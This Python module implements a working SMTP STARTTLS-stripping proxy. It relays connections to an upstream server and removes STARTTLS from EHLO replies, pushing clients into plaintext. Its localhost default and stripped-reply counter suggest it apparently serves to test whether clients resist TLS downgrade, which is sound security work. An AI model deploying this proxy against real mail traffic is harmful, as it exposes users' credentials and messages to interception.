"""mitm - a man in the middle for SMTP: a TCP proxy that removes STARTTLS
from the server's EHLO reply, so that a client that does not insist on TLS
continues in plaintext.

    import mitm
    m = mitm.StripTLS("127.0.0.1", upstream_port)
    m.port            # where clients connect
    m.stripped        # how many EHLO replies lost their STARTTLS line
    m.stop()
"""

import socket
import threading


class StripTLS:
    def __init__(self, up_host, up_port, host="127.0.0.1"):
        self.up = (up_host, up_port)
        self.stripped = 0
        self.lock = threading.Lock()
        self._stop = threading.Event()
        self.sock = socket.socket()
        self.sock.bind((host, 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while not self._stop.is_set():
            try:
                c, _ = self.sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            threading.Thread(target=self._session, args=(c,), daemon=True).start()

    def _session(self, c):
        try:
            u = socket.create_connection(self.up, timeout=30)
        except OSError:
            c.close()
            return
        threading.Thread(target=self._pump, args=(c, u), daemon=True).start()
        uf = u.makefile("rb")
        try:
            reply = []
            while True:
                line = uf.readline()
                if not line:
                    break
                reply.append(line)
                if len(line) >= 4 and line[3:4] == b"-":
                    continue  # a multi-line reply goes on
                c.sendall(self._filter(reply))
                reply = []
        except OSError:
            pass
        finally:
            c.close()
            u.close()

    def _filter(self, lines):
        if not lines[0].startswith(b"250"):
            return b"".join(lines)
        kept = [l for l in lines if l[4:].strip().upper() != b"STARTTLS"]
        if len(kept) != len(lines):
            with self.lock:
                self.stripped += 1
            kept = [l[:3] + b"-" + l[4:] for l in kept[:-1]] + \
                   [kept[-1][:3] + b" " + kept[-1][4:]]
        return b"".join(kept)

    @staticmethod
    def _pump(src, dst):
        try:
            while True:
                d = src.recv(65536)
                if not d:
                    break
                dst.sendall(d)
        except OSError:
            pass
        finally:
            try:
                dst.shutdown(socket.SHUT_WR)
            except OSError:
                pass

    def stop(self):
        self._stop.set()
        self.sock.close()
